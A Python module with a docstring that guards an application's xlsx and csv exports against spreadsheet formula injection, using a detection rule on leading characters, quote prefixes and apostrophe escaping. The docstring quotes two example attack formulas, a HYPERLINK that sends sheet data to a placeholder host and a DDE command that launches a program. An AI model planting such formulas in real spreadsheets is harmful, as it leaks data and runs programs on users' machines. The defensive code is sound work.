"""The one formula guard of every spreadsheet we write (issue 15).

Text that starts with = + - @ (or a tab / carriage return) is run as a formula by Excel or LibreOffice
(spreadsheet formula injection: `=HYPERLINK("http://x/?"&A1,"Bấm")` sends the sheet's data away,
`=cmd|' /C calc'!A0` starts a program). Typing it is refused (places.text.NoFormulaStart), but rows
written before that check, or by a path that bypasses it, must still come out as text. Every writer
asks `is_formula_like` and treats the answer the way its format allows:

- xlsx (register exports streamed by sheets.xlsx_stream; report xlsx, error workbooks and templates
  written with openpyxl through `guard_cell`): the text is kept as it is, stored as a string cell with
  Excel's quote prefix — never a formula, and it stays text when someone edits the cell;
- csv and other formats without cell types (`csv_text`: register exports, the admin's exports): a
  leading apostrophe, which spreadsheets hide and our imports remove again (`unguard`).

tests/sheets/test_formula_guard.py plants such text in the database and opens every writer's file.
"""

from __future__ import annotations

import datetime

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(value: object) -> bool:
    """The one rule: whether a cell holding `value` could be read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def guard_cell(cell):
    """An openpyxl cell (write-only or not) whose value starts like a formula becomes a text cell with
    the quote prefix; openpyxl would otherwise store it as a formula. Returns the cell."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def csv_text(value: object) -> str:
    """A value as the text of a csv cell: dates dd/mm/yyyy, a tick as x, a formula start behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, datetime.date):
        return f"{value:%d/%m/%Y}"
    if isinstance(value, bool):
        return "x" if value else ""
    text = str(value)
    return QUOTE + text if is_formula_like(text) else text


def unguard(value: object) -> object:
    """What an import reads back from a csv cell that `csv_text` guarded: the apostrophe removed."""
    if isinstance(value, str) and value.startswith(QUOTE) and is_formula_like(value[1:]):
        return value[1:]
    return value
